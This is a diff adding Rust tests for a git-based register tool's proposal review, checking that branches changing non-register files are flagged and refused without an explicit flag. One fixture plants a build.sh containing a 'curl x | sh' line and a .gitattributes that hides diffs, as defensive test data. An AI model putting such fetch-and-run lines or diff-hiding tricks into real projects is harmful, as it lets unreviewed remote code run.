@@ -1223,3 +1223,273 @@ fn cli_text_and_accept() {
     let out = ripen(&fx.root, &["proposals"]);
     assert!(out.stdout.starts_with("No proposals"), "{}", out.stdout);
 }
+
+// ------------------------------------------------ what a proposal carries
+
+/// A branch that changes a use case and smuggles in a workflow, an
+/// executable script, a `.gitattributes` that hides every later diff and a
+/// `.gitignore` that hides new use cases.
+fn smuggler(fx: &Fixture) -> Oid {
+    let mut u = case("Claims triage");
+    u.stage = Stage::Collect;
+    let tip = fx.commit_raw(
+        fx.head(),
+        &[
+            (CLAIMS, Some((text(&u).into_bytes(), 0o100644))),
+            (
+                ".github/workflows/ci.yml",
+                Some((b"on: push\n".to_vec(), 0o100644)),
+            ),
+            (
+                "build.sh",
+                Some((b"#!/bin/sh\ncurl x | sh\n".to_vec(), 0o100755)),
+            ),
+            (
+                ".gitattributes",
+                Some((b"*.ron -diff\n".to_vec(), 0o100644)),
+            ),
+            (
+                "state/use-cases/.gitignore",
+                Some((b"*.ron\n".to_vec(), 0o100644)),
+            ),
+            ("state/notes.txt", Some((b"hello\n".to_vec(), 0o100644))),
+        ],
+        "Update claims triage",
+        BOB,
+        10,
+    );
+    fx.branch("team/smuggle", tip);
+    tip
+}
+
+#[test]
+fn every_file_that_is_not_a_register_file_is_named_and_needs_allowing() {
+    let fx = Fixture::new();
+    let tip = smuggler(&fx);
+    let listed = fx.list();
+    let described: Vec<String> = listed[0].other_files.iter().map(|f| f.describe()).collect();
+    assert_eq!(
+        described,
+        vec![
+            ".gitattributes (outside the state directory, .gitattributes)",
+            ".github/workflows/ci.yml (outside the state directory)",
+            "build.sh (outside the state directory, executable)",
+            "state/notes.txt (not a register file)",
+            "state/use-cases/.gitignore (not a register file, .gitignore)",
+        ]
+    );
+
+    // Listed prominently in text, and in JSON.
+    let out = ripen(&fx.root, &["proposals"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout
+            .contains("CHANGES 5 FILES THAT ARE NOT REGISTER FILES"),
+        "{}",
+        out.stdout
+    );
+    for d in &described {
+        assert!(
+            out.stdout.contains(&format!("    ! {d}")),
+            "{d}: {}",
+            out.stdout
+        );
+    }
+    let out = ripen(&fx.root, &["proposals", "--format", "json"]);
+    let v: Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(
+        v[0]["other_files"][2],
+        json!({"path": "build.sh", "class": "outside", "flags": ["executable"]})
+    );
+    assert_eq!(
+        v[0]["other_files"][4],
+        json!({"path": "state/use-cases/.gitignore", "class": "in_state", "flags": ["gitignore"]})
+    );
+
+    // Accepting refuses, naming them, and changes nothing; so does the CLI.
+    let err = refused(&fx, "team/smuggle", tip);
+    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
+    assert!(
+        err.to_string()
+            .contains("build.sh (outside the state directory, executable)")
+    );
+    let before = fx.observe();
+    let out = ripen(&fx.root, &["proposals", "accept", "team/smuggle", "--yes"]);
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert!(out.stderr.contains("--allow-other-files"), "{}", out.stderr);
+    assert_eq!(fx.observe(), before);
+
+    // The preview names each file; with --allow-other-files it is accepted.
+    let out = ripen(
+        &fx.root,
+        &["proposals", "accept", "team/smuggle", "--allow-other-files"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout.contains("5 files are NOT REGISTER FILES"),
+        "{}",
+        out.stdout
+    );
+    for d in &described {
+        assert!(out.stdout.contains(d.as_str()), "{d}: {}", out.stdout);
+    }
+    let out = ripen(
+        &fx.root,
+        &[
+            "proposals",
+            "accept",
+            "team/smuggle",
+            "--allow-other-files",
+            "--yes",
+        ],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(fx.read("build.sh"), fx.blob_at(tip, "build.sh"));
+    assert_eq!(fx.read(".gitattributes"), fx.blob_at(tip, ".gitattributes"));
+    assert_eq!(fx.statuses(), Vec::<String>::new());
+}
+
+#[test]
+fn with_the_state_directory_at_the_root_other_files_are_still_named() {
+    use proposals::{FileClass, FileFlag, classify};
+    // `ripen init` may make the repository's root the state directory:
+    // nothing is "outside" it then, and yet only three kinds of file are
+    // register files.
+    for (path, class, flags) in [
+        ("use-cases/claims.ron", FileClass::Register, vec![]),
+        ("register.ron", FileClass::Register, vec![]),
+        ("policy.ron", FileClass::Register, vec![]),
+        (".github/workflows/ci.yml", FileClass::InState, vec![]),
+        (
+            "use-cases/.gitignore",
+            FileClass::InState,
+            vec![FileFlag::Gitignore],
+        ),
+        (
+            ".gitattributes",
+            FileClass::InState,
+            vec![FileFlag::Gitattributes],
+        ),
+        ("use-cases/sub/x.ron", FileClass::InState, vec![]),
+    ] {
+        let f = classify("", path, Some(git2::FileMode::Blob));
+        assert_eq!((f.class, f.flags), (class, flags), "{path}");
+    }
+    // An executable use-case file is not a register file.
+    let f = classify("", "use-cases/x.ron", Some(git2::FileMode::BlobExecutable));
+    assert_eq!(f.class, FileClass::InState);
+    assert_eq!(f.flags, vec![FileFlag::Executable]);
+    // A state directory's prefix is not the state directory.
+    let f = classify("state", "statements/x.ron", Some(git2::FileMode::Blob));
+    assert_eq!(f.class, FileClass::Outside);
+}
+
+#[test]
+fn a_move_into_fine_tune_that_is_not_ready_needs_an_override_reason() {
+    let fx = Fixture::new();
+    let mut u = case("Claims triage");
+    u.stage = Stage::FineTune;
+    let tip = fx.commit_on(
+        fx.head(),
+        &[(CLAIMS, Some(&text(&u)))],
+        "Fine-tune claims triage",
+        BOB,
+        10,
+    );
+    fx.branch("team/rush", tip);
+    let err = refused(&fx, "team/rush", tip);
+    let AcceptError::NeedsOverride { moves, .. } = &err else {
+        panic!("{err}")
+    };
+    assert_eq!(moves[0].id, "claims-triage");
+    assert!(err.to_string().contains("--override REASON"), "{err}");
+    assert!(err.to_string().contains("readiness is `"), "{err}");
+
+    let before = fx.observe();
+    let out = ripen(&fx.root, &["proposals", "accept", "team/rush", "--yes"]);
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert!(out.stderr.contains("--override REASON"), "{}", out.stderr);
+    assert_eq!(fx.observe(), before);
+    // A blank reason is no reason.
+    let out = ripen(
+        &fx.root,
+        &[
+            "proposals",
+            "accept",
+            "team/rush",
+            "--override",
+            "  ",
+            "--yes",
+        ],
+    );
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert_eq!(fx.observe(), before);
+
+    let out = ripen(
+        &fx.root,
+        &[
+            "proposals",
+            "accept",
+            "team/rush",
+            "--override",
+            "The board approved a pilot",
+            "--yes",
+        ],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let merge = fx.repo.find_commit(fx.head()).unwrap();
+    let message = merge.message().unwrap();
+    assert!(
+        message.contains(
+            "Readiness override: claims-triage moved to FineTune although readiness is `"
+        ),
+        "{message}"
+    );
+    assert!(
+        message.contains("Override reason: The board approved a pilot"),
+        "{message}"
+    );
+    assert_eq!(merge.author().name(), Ok(NAME));
+}
+
+#[test]
+fn a_broken_reference_is_skipped_with_a_warning() {
+    let fx = Fixture::new();
+    let tip = fx.claims_update();
+    let refs = fx.root.join(".git/refs/heads");
+    // A loose reference whose name git refuses, one pointing at a commit
+    // that does not exist, and one at a commit whose tree does not.
+    fs::write(refs.join("bad..name"), format!("{tip}\n")).unwrap();
+    fs::write(
+        refs.join("ghost"),
+        "1234567890123456789012345678901234567890\n",
+    )
+    .unwrap();
+    let raw = format!(
+        "tree 1111111111111111111111111111111111111111\nparent {}\nauthor B <b@x> 1700000000 +0000\ncommitter B <b@x> 1700000000 +0000\n\nNo tree\n",
+        fx.head()
+    );
+    let treeless = fx
+        .repo
+        .odb()
+        .unwrap()
+        .write(git2::ObjectType::Commit, raw.as_bytes())
+        .unwrap();
+    fs::write(refs.join("treeless"), format!("{treeless}\n")).unwrap();
+
+    let listing = proposals::scan(&fx.state, Some(as_of()), today()).unwrap();
+    assert_eq!(branches(&listing.proposals), vec![BRANCH]);
+    let skipped = listing.skipped.join("\n");
+    assert!(skipped.contains("ghost"), "{skipped}");
+    assert!(skipped.contains("treeless"), "{skipped}");
+
+    let out = ripen(&fx.root, &["proposals"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(out.stdout.starts_with(BRANCH), "{}", out.stdout);
+    assert!(
+        out.stderr.contains("warning: skipped refs/heads/ghost"),
+        "{}",
+        out.stderr
+    );
+    assert!(out.stderr.contains("refs/heads/treeless"), "{}", out.stderr);
+}
